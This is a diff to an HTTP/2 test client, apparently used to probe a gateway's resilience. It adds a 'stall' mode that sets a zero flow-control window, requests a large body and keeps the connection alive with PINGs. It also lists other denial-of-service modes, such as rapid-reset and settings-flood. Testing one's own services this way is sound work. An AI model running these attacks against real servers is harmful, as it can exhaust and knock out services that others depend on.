@@ -6,7 +6,8 @@ requests on one connection, or raw frames as an attacker sends them.
                                         stream at once; prints JSON lines
   h2client.py ATTACK HOST PORT          rapid-reset, continuation,
                                         settings-flood, ping-flood,
-                                        hpack-bomb; prints what came back
+                                        hpack-bomb, stall; prints what
+                                        came back
 The credential header is "authorization: Bearer $API_TOKEN"."""
 import json
 import os
@@ -188,6 +189,32 @@ def hpack_bomb(host, port):
     t.close()
 
 
+def stall(host, port):
+    """A window that never opens: SETTINGS_INITIAL_WINDOW_SIZE 0, a large
+    response asked for, PINGs but never a WINDOW_UPDATE.  Prints how long
+    the gateway kept the connection."""
+    t = connect(host, port)
+    enc = hpack.Encoder()
+    t0 = time.time()
+    t.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
+              frame(4, 0, 0, struct.pack(">HI", 4, 0)) +
+              frame(1, 0x5, 1, enc.encode(req_headers(host, port, "/bytes/300000"))))
+    t.settimeout(0.5)
+    got = b""
+    while time.time() - t0 < 60:
+        try:
+            data = t.recv(65536)
+            if not data:
+                break
+            got += data
+        except socket.timeout:
+            t.sendall(frame(6, 0, 0, b"12345678"))
+        except (ConnectionError, ssl.SSLError, OSError):
+            break
+    print(json.dumps({"stall_s": round(time.time() - t0, 1),
+                      "bytes": len(got)}), flush=True)
+
+
 def hpack_int(v):
     out = b""
     while v >= 128:
@@ -214,6 +241,8 @@ if __name__ == "__main__":
         get(host, port, sys.argv[4:])
     elif mode == "hpack-bomb":
         hpack_bomb(host, port)
+    elif mode == "stall":
+        stall(host, port)
     else:
         attack(mode, host, port)
     # the gateway is still there for a new connection
